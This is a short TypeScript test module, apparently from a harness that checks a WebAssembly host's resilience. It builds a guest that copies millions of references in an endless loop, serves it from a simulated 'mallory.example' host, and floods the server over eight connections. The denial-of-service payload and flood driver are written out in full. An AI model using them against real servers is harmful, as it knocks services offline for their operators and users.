import type { Attack } from '../attack.ts';
import { flood } from '../clients.ts';
import { forever, number, ObjectType, objectGuest } from '../object-guest.ts';

/** One instruction that moves millions of references, over and over. */
export const arrayCopy: Attack = {
  name: 'array-copy',
  what: 'array.copy of 3.9 million references without end, 8 connections',
  prepare(stage) {
    const { references } = ObjectType;
    const count = 3_900_000;
    const array = [...number(count), 0xfb, 7, references, 0x21, 1];
    const ranges = [0x20, 1, ...number(1), 0x20, 1, ...number(0), ...number(count - 1)];
    const copy = [...ranges, 0xfb, 17, references, references];
    stage.put('mallory', 'copy.wasm', objectGuest([...array, ...forever(copy)]));
    stage.name('mallory.example', 'mallory');
  },
  attack: ({ port }, signal) =>
    flood(() => ({ port, host: 'mallory.example', path: '/copy.wasm' }), {
      connections: 8,
      signal,
    }),
};
